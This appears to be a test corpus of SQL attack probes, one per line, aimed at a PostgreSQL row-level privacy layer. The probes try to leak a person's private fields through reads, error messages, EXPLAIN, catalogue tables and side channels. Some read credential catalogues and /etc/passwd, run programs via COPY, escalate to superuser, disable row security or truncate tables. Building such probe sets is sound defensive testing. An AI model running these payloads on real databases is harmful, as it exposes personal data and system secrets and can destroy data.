-- One attack a line. 7 is the person whose rows are wanted, 8 another one; `-- channel:` says what the lines below it try.
-- channel: plain reads of what is private or hidden
SELECT * FROM person WHERE id = 7
SELECT memo, phone, salary, tags, marks, face, seen, token, extra, raw, number, weight, born, email FROM person WHERE id = 7
SELECT * FROM post WHERE author_id = 7
SELECT * FROM post WHERE author_id = 7 AND score = 1
SELECT * FROM vault WHERE owner_id = 7
SELECT v.*, p.* FROM person p JOIN vault v ON v.owner_id = p.id WHERE p.id = 7
SELECT * FROM visit WHERE visitor = 7
SELECT * FROM visit_new WHERE visitor = 7
SELECT * FROM ONLY visit WHERE visitor = 7
SELECT p FROM person p WHERE id = 7
SELECT (p).* FROM person p WHERE p.id = 7
SELECT row_to_json(p) FROM person p WHERE id = 7
SELECT to_jsonb(p) - 'id' FROM person p WHERE id = 7
SELECT array_agg(p) FROM person p WHERE id = 7
SELECT string_agg(draft, ',') FROM post WHERE author_id = 7
SELECT max(memo), min(phone::text), max(born), sum(salary), avg(weight), max(number) FROM person WHERE id = 7
SELECT * FROM person
SELECT * FROM post ORDER BY draft DESC NULLS LAST LIMIT 3
SELECT * FROM vault
SELECT * FROM setting
SELECT * FROM account
SELECT p.*, q.* FROM person p LEFT JOIN post q ON q.author_id = p.id
SELECT xmin, ctid, tableoid, memo FROM person WHERE id = 7
SELECT first_name FROM person WHERE id = 7 UNION ALL SELECT memo FROM person WHERE id = 7
SELECT coalesce(memo, first_name), CASE WHEN memo IS NULL THEN first_name ELSE memo END FROM person WHERE id = 7
SELECT person FROM person WHERE person.id = 7
SELECT * FROM person WHERE email = 'p7@x'
TABLE vault
-- channel: names with a schema
SELECT * FROM public.person WHERE id = 7
SELECT * FROM public.person
SELECT * FROM public.vault
SELECT * FROM transfer_us_feed.person WHERE id = 7
SELECT * FROM world_feed.person WHERE id = 7
SELECT * FROM world_feed."eu/person"
SELECT * FROM world_feed."eu/post"
SELECT * FROM world_support.person
SELECT * FROM ringfence.directory_person
SELECT * FROM ringfence.pseudonym_key
SELECT * FROM ringfence.pseudonym_person_token
-- channel: functions of one's own that talk about rows
CREATE FUNCTION pg_temp.show(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$
SELECT id FROM post WHERE author_id = 7 AND pg_temp.show(content)
DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM person LOOP RAISE NOTICE '%', r; END LOOP; END $$
CREATE OPERATOR pg_temp.<<< (LEFTARG = text, RIGHTARG = text, FUNCTION = pg_temp.show)
CREATE TEMP TABLE kept AS SELECT * FROM person WHERE id = 7
SELECT * INTO TEMP kept FROM person WHERE id = 7
CREATE TEMP VIEW seen AS SELECT * FROM person
CREATE VIEW seen AS SELECT * FROM person
CREATE FUNCTION seen() RETURNS SETOF person LANGUAGE sql SECURITY DEFINER AS 'SELECT * FROM person'
CREATE AGGREGATE pg_temp.collect(text) (SFUNC = textcat, STYPE = text)
-- channel: errors that name a value
SELECT id FROM post WHERE author_id = 7 AND content::int = 1
SELECT id FROM post WHERE author_id = 7 AND draft::int = 1
SELECT content::bigint FROM post WHERE author_id = 7 AND score = 1
SELECT id FROM post WHERE content::int = 1
SELECT id FROM post WHERE 1 / (CASE WHEN content LIKE 'post%' THEN 1 ELSE 0 END) = 1
SELECT id FROM post WHERE author_id = 7 AND 1 / (score - 1) = 1
SELECT memo::date FROM person WHERE id = 7
SELECT memo::date, phone::int, extra::text::int, tags::text::bigint[] FROM person
SELECT email::inet FROM person WHERE id = 7
SELECT cast(email AS uuid) FROM person
SELECT number::smallint, salary::int, weight::real::int FROM person WHERE id = 7
SELECT (extra->>'secret')::int FROM person WHERE id = 7
SELECT set_bit(face, 100000, 1) FROM person WHERE id = 7
SELECT to_date(memo, 'YYYY') FROM person WHERE id = 7
SELECT ('{' || memo)::text[] FROM person WHERE id = 7
SELECT ('{"a":' || memo)::json FROM person WHERE id = 7
SELECT xmlparse(document memo) FROM person WHERE id = 7
SELECT regexp_match('x', memo || '(') FROM person WHERE id = 7
SELECT to_tsquery(memo || ' ! &') FROM person WHERE id = 7
SELECT convert_from(face, 'UTF8') FROM person WHERE id = 7
SELECT * FROM person WHERE id = 7 AND pg_input_error(memo) IS NULL
SELECT id FROM visit, LATERAL (SELECT page::int) x WHERE visitor = 7
SELECT (SELECT content FROM post WHERE author_id = 7) FROM person WHERE id = 7
INSERT INTO post (id, author_id, content, score) VALUES (71, 7, 'x', 0)
INSERT INTO post (id, author_id, content, score) VALUES (71, 7, 'x', 0) ON CONFLICT (id) DO UPDATE SET content = 'y' WHERE post.author_id = 7 RETURNING *
INSERT INTO post (id, author_id, content, score) VALUES (71, 7, 'x', 1) RETURNING *
INSERT INTO person (id, country, email) VALUES (7, 'DE', 'n@x') RETURNING *
INSERT INTO person (id, country, email) VALUES (907, 'DE', 'p7@x') RETURNING *
INSERT INTO mail (id, owner_id, tag_id) VALUES (907, 7, 99)
UPDATE post SET content = draft WHERE author_id = 7 RETURNING *
UPDATE post SET score = 0 WHERE author_id = 7 AND score = 1 RETURNING *
UPDATE post SET score = 1 WHERE author_id = 7 RETURNING content, draft
UPDATE person SET memo = phone WHERE id = 7 RETURNING memo
UPDATE person SET first_name = memo WHERE id = 7 RETURNING first_name
UPDATE person SET email = NULL, memo = repeat('x', 100) WHERE id = 7
UPDATE person SET country = 'US' WHERE id = 7 RETURNING *
DELETE FROM post WHERE author_id = 7 RETURNING *
DELETE FROM person WHERE id = 7 RETURNING *
-- channel: order, counts and comparisons
SELECT id FROM person WHERE id = 7 ORDER BY salary
SELECT id, rank() OVER (ORDER BY memo), ntile(4) OVER (ORDER BY salary), lag(memo) OVER (ORDER BY id) FROM person
SELECT count(*) FILTER (WHERE memo > 'm'), count(memo), count(DISTINCT phone) FROM person WHERE id = 7
SELECT width_bucket(salary, 0, 1e20, 1000) FROM person WHERE id = 7
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY number), mode() WITHIN GROUP (ORDER BY memo) FROM person
SELECT memo, count(*) FROM person GROUP BY GROUPING SETS ((memo), (phone), ())
SELECT DISTINCT ON (memo) id, memo FROM person ORDER BY memo
SELECT a.id FROM person a JOIN person b ON a.memo < b.memo WHERE a.id = 7 AND b.id = 7
SELECT id FROM post WHERE author_id = 7 AND draft > 'm' ORDER BY draft OFFSET 1
SELECT * FROM post WHERE author_id = 7 ORDER BY content USING > FETCH FIRST 1 ROWS WITH TIES
SELECT * FROM post TABLESAMPLE BERNOULLI (100) WHERE author_id = 7
SELECT id FROM post WHERE author_id = 7 FOR UPDATE
-- channel: values in other clothes
SELECT encode(convert_to(memo, 'UTF8'), 'base64'), encode(face, 'escape'), encode(face, 'base64'), md5(memo), sha256(face) FROM person WHERE id = 7
SELECT upper(memo), reverse(memo), left(memo, 20), substr(memo, 3, 18), translate(memo, 'abc', 'xyz'), ascii(memo), length(memo) FROM person WHERE id = 7
SELECT format('%s %L %I', memo, phone, email), quote_literal(memo), concat_ws('-', memo, phone) FROM person WHERE id = 7
SELECT hashtext(memo), hash_numeric(salary), to_tsvector(memo), to_hex(number), to_char(salary, '9999999999999999999999') FROM person WHERE id = 7
SELECT int8send(number), textsend(memo), date_send(born), uuid_send(token), numeric_send(salary), record_send(p) FROM person p WHERE id = 7
SELECT lo_from_bytea(0, face), lo_put(1, 0, face) FROM person WHERE id = 7
SELECT unnest(tags), unnest(marks), jsonb_path_query(extra, '$.*[*]'), regexp_split_to_table(memo, '') FROM person WHERE id = 7
SELECT table_to_xml('person', true, false, ''), query_to_xml('SELECT * FROM vault', true, false, ''), database_to_xml(true, false, '')
SELECT cursor_to_xml('c', 1, true, false, ''), schema_to_xml('public', true, false, '')
SELECT xmlforest(p.memo, p.phone), xmlelement(name a, memo) FROM person p WHERE id = 7
SELECT pg_size_pretty(pg_column_size(p.*)::bigint), pg_column_size(memo), pg_column_compression(memo) FROM person p WHERE id = 7
SELECT ts_stat('SELECT to_tsvector(draft) FROM post'), ts_rewrite('a'::tsquery, 'SELECT draft::tsquery, draft::tsquery FROM post')
SELECT * FROM json_populate_record(NULL::person, '{"memo": "x"}')
SELECT * FROM jsonb_to_record((SELECT to_jsonb(p) FROM person p WHERE id = 7)) AS x(memo text, phone text)
SELECT * FROM ROWS FROM (unnest(ARRAY(SELECT memo FROM person WHERE id = 7)), generate_series(1, 2)) x
SELECT (SELECT string_agg(memo, '') FROM person), (SELECT json_agg(v) FROM vault v)
WITH RECURSIVE r AS (SELECT id, memo FROM person WHERE id = 7 UNION ALL SELECT id + 1, memo FROM r WHERE id < 9) SELECT * FROM r
-- channel: EXPLAIN
EXPLAIN SELECT * FROM post WHERE author_id = 7
EXPLAIN (ANALYZE, VERBOSE, BUFFERS) SELECT * FROM post WHERE author_id = 7
EXPLAIN (ANALYZE, FORMAT JSON) SELECT * FROM post
EXPLAIN ANALYZE EXECUTE one
-- channel: statistics and the catalogue
SELECT * FROM pg_stats WHERE tablename = 'person'
SELECT most_common_vals, histogram_bounds FROM pg_stats
SELECT * FROM pg_statistic
SELECT * FROM pg_stats_ext
SELECT * FROM pg_stat_activity
SELECT * FROM pg_stat_user_tables
SELECT * FROM pg_statio_all_tables
SELECT * FROM pg_locks
SELECT * FROM pg_prepared_statements
SELECT * FROM pg_cursors
SELECT * FROM pg_prepared_xacts
SELECT reltuples, relpages FROM pg_class WHERE relname = 'person'
SELECT pg_relation_size('person'), pg_total_relation_size('post'), pg_database_size(current_database())
SELECT pg_get_viewdef('person'::regclass), pg_get_functiondef('phone_check'::regproc)
SELECT * FROM pg_rewrite
SELECT * FROM pg_policy
SELECT prosrc FROM pg_proc
SELECT conbin, pg_get_constraintdef(oid) FROM pg_constraint
SELECT * FROM pg_description
SELECT * FROM pg_user_mappings
SELECT * FROM pg_user_mapping
SELECT * FROM pg_foreign_server
SELECT * FROM pg_authid
SELECT * FROM pg_shadow
SELECT * FROM pg_roles
SELECT * FROM pg_settings
SELECT * FROM pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns
SELECT * FROM pg_largeobject
SELECT * FROM pg_seclabels
SELECT * FROM pg_publication_tables
SELECT * FROM pg_backend_memory_contexts
SHOW ALL
SHOW ringfence.shapes
SHOW ringfence.refusals
SHOW ringfence.pools
SHOW data_directory
-- channel: places where one session leaves something for another
NOTIFY canary, 'x'
LISTEN canary
SELECT pg_notify('canary', memo) FROM person WHERE id = 7
SELECT pg_notify('canary', 'x')
SELECT pg_advisory_lock(number), pg_try_advisory_lock(number) FROM person WHERE id = 7
SELECT pg_advisory_xact_lock(1)
SELECT lo_create(0)
SELECT lo_get(oid) FROM pg_largeobject_metadata
SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')
PREPARE TRANSACTION 'canary'
COMMENT ON TABLE person IS 'x'
SECURITY LABEL ON TABLE person IS 'x'
SELECT pg_export_snapshot()
SELECT nextval('ringfence.directory_person_seq'), lastval()
SELECT pg_current_wal_lsn(), txid_current(), pg_current_snapshot()
SELECT pg_logical_emit_message(false, 'canary', memo) FROM person WHERE id = 7
SELECT pg_create_logical_replication_slot('canary', 'test_decoding')
SELECT * FROM pg_logical_slot_peek_changes('canary', NULL, NULL)
-- channel: settings
SET ringfence.viewer = 'DE'
SET ringfence.purpose = 'support'
SET ringfence.subject = '7'
SET ringfence.policy = 'x'
SET ringfence.link = '000000000000000000000000'
SET SESSION AUTHORIZATION postgres
SET ROLE transfer_us_support
SET ROLE ringfence_transfer_us_feed
SET row_security = off
SET search_path = public
SET session_replication_role = replica
SET client_min_messages = debug5
SET log_statement = 'all'
SET debug_print_plan = on
SET bytea_output = escape
SET DateStyle = 'German'
SET application_name = 'rf-1'
SET client_encoding = 'LATIN1'
RESET ringfence.purpose
RESET ALL
DISCARD ALL
SELECT set_config('search_path', 'public', false), set_config('ringfence.purpose', 'support', false)
SELECT set_config('application_name', memo, false) FROM person WHERE id = 7
SELECT current_setting('ringfence.transfer'), current_setting('ringfence.subject', true)
/* ringfence.subject='8' */ SELECT * FROM vault WHERE owner_id = 7
SELECT * FROM vault /* ringfence.subject='7' */
SELECT * FROM vault /*ringfence_subject='7',ringfence_purpose='travel'*/
-- channel: files, programs and other servers
COPY person TO PROGRAM 'cat'
COPY person FROM PROGRAM 'cat /etc/passwd'
COPY (SELECT * FROM person WHERE id = 7) TO '/tmp/canary'
COPY vault TO STDOUT
COPY public.person TO STDOUT
COPY person (memo) TO STDOUT
SELECT pg_read_file('PG_VERSION'), pg_read_binary_file('global/pg_control'), pg_ls_dir('.')
SELECT * FROM dblink('host=/tmp', 'SELECT memo FROM person') AS t(memo text)
SELECT dblink_connect('dbname=canary')
CREATE EXTENSION dblink
CREATE EXTENSION pageinspect
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')
CREATE FOREIGN TABLE mine (memo text) SERVER ringfence_eu OPTIONS (schema_name 'public', table_name 'person')
IMPORT FOREIGN SCHEMA public FROM SERVER ringfence_eu INTO public
CREATE USER MAPPING FOR CURRENT_USER SERVER ringfence_eu
SELECT postgres_fdw_get_connections()
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION '' PUBLICATION p
LOAD 'auto_explain'
-- channel: rights and structure
TRUNCATE post
LOCK TABLE post
ALTER TABLE person ADD leak text
ALTER TABLE person DISABLE ROW LEVEL SECURITY
ALTER VIEW person RESET (security_barrier)
GRANT SELECT ON person TO PUBLIC
GRANT transfer_us_support TO CURRENT_USER
CREATE RULE r AS ON SELECT TO person DO INSTEAD SELECT * FROM vault
CREATE TRIGGER t BEFORE UPDATE ON person EXECUTE FUNCTION suppress_redundant_updates_trigger()
CREATE INDEX ON person (memo)
CREATE STATISTICS s ON memo, phone FROM person
CREATE POLICY p ON person USING (true)
CREATE SCHEMA s
CREATE ROLE r SUPERUSER
ALTER ROLE CURRENT_USER SET search_path = public
REINDEX TABLE person
ANALYZE person
VACUUM person
CLUSTER person
REFRESH MATERIALIZED VIEW person
MERGE INTO post p USING (SELECT 7 AS id) s ON p.author_id = s.id WHEN MATCHED THEN UPDATE SET content = p.draft
-- channel: transactions, savepoints, several statements at once
BEGIN; SELECT memo FROM person WHERE id = 7; SAVEPOINT s; SELECT memo::int FROM person WHERE id = 7; ROLLBACK TO s; SELECT draft FROM post WHERE author_id = 7; COMMIT
BEGIN; SELECT first_name FROM person WHERE id = 7; SELECT first_name FROM person WHERE id = 8; ROLLBACK
BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE DEFERRABLE; SELECT * FROM vault WHERE owner_id = 7; ROLLBACK
BEGIN; DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT * FROM person; FETCH ALL FROM c; COMMIT; FETCH BACKWARD ALL FROM c
BEGIN; DECLARE c CURSOR FOR SELECT * FROM post WHERE author_id = 7 FOR UPDATE; UPDATE post SET content = draft WHERE CURRENT OF c RETURNING *; ROLLBACK
SELECT first_name FROM person WHERE id = 7; SELECT * FROM vault
SELECT 1; SELECT memo FROM person WHERE id = 7; SELECT 1/0; SELECT 2
PREPARE one AS SELECT * FROM person WHERE id = $1; EXECUTE one(7); EXECUTE one(8); DEALLOCATE one
PREPARE one (bigint) AS SELECT memo, draft FROM person, post WHERE author_id = $1 AND person.id = $1; EXECUTE one(7); DEALLOCATE ALL
SET ringfence.subject = '7'; SELECT * FROM vault; SELECT * FROM person; RESET ringfence.subject
BEGIN; SET LOCAL ringfence.subject = '7'; SELECT * FROM vault WHERE owner_id = 7; ROLLBACK
BEGIN; SET LOCAL search_path = transfer_us_support, public; SELECT * FROM vault; ROLLBACK
-- channel: own values against others' (what a question itself carries)
SELECT id FROM post WHERE content = (SELECT max(memo) FROM person WHERE first_name LIKE 'name%')
SELECT q.id FROM person p JOIN post q ON q.content = p.memo WHERE p.first_name LIKE 'name%'
SELECT id FROM person WHERE first_name IN (SELECT draft FROM post WHERE content LIKE 'post%')
SELECT id FROM post WHERE content = ANY (ARRAY(SELECT memo FROM person WHERE first_name LIKE 'name%'))
SELECT id FROM post WHERE content = (SELECT max(content) FROM post WHERE score = 1)
SELECT id FROM post WHERE content > (SELECT min(content) FROM post WHERE score = 1) AND score = (SELECT max(score) FROM post)
SELECT id FROM post WHERE author_id = 7 AND content = (SELECT memo FROM person WHERE id = 7)
SELECT q.id FROM person p, post q WHERE p.first_name LIKE 'name%' AND (p.memo = 'x' OR q.content = 'y')
SELECT q.id FROM person p, post q WHERE p.first_name LIKE 'name%' AND q.content LIKE left(p.memo, 25) || '%'
SELECT q.id FROM person p, post q WHERE q.author_id = p.id AND (q.content, q.id) = (p.memo, p.number)
SELECT q.id FROM person p, tag t, post q WHERE p.first_name LIKE 'name%' AND t.name = p.memo AND q.content = t.name
SELECT q.id FROM post q JOIN person p ON q.author_id = p.id AND q.content = q.draft JOIN person r ON r.first_name = q.content
SELECT id, first_name FROM person p WHERE EXISTS (SELECT FROM post q WHERE q.score = 7 OR p.memo = 'x')
SELECT (SELECT count(*) FROM post q WHERE q.content = p.memo) FROM person p WHERE p.first_name LIKE 'name%'
SELECT q.id FROM person p, LATERAL (SELECT id FROM post WHERE content = p.memo) q WHERE p.first_name LIKE 'name%'
SELECT q.id FROM (SELECT first_name, memo AS m FROM person WHERE first_name LIKE 'name%' OFFSET 0) s JOIN post q ON q.content = s.m
SELECT q.id FROM (SELECT *, memo::text AS content FROM person WHERE first_name LIKE 'name%') s JOIN post q USING (content)
SELECT y FROM (SELECT CASE WHEN p.memo > 'x' THEN q.content END AS y FROM person p, post q WHERE p.first_name LIKE 'name%') s WHERE y = 'z'
SELECT id FROM post ORDER BY content || (SELECT max(memo) FROM person WHERE first_name LIKE 'name%') LIMIT 3
SELECT content || (SELECT max(memo) FROM person WHERE first_name LIKE 'name%') AS x FROM post ORDER BY x LIMIT 3
SELECT q.id FROM unnest(ARRAY(SELECT memo FROM person WHERE first_name LIKE 'name%')) t JOIN post q ON q.content = t
SELECT q.id FROM person p, unnest(p.tags) t JOIN post q ON q.content = t WHERE p.first_name LIKE 'name%'
WITH w AS MATERIALIZED (SELECT memo FROM person WHERE first_name LIKE 'name%') SELECT id FROM post WHERE content IN (SELECT memo FROM w)
WITH RECURSIVE r AS (SELECT id, memo::text AS m FROM person WHERE first_name LIKE 'name%' UNION SELECT q.id, q.content FROM r JOIN post q ON q.content = r.m) SELECT * FROM r
SELECT max(q.id) FROM person p JOIN post q ON q.score = p.number % 2 WHERE p.first_name LIKE 'name%'
SELECT a.id FROM post a JOIN post b ON a.content = b.content AND a.id <> b.id
BEGIN; DECLARE c CURSOR FOR SELECT q.id FROM person p JOIN post q ON q.content = p.memo WHERE p.first_name LIKE 'name%'; FETCH ALL FROM c; ROLLBACK
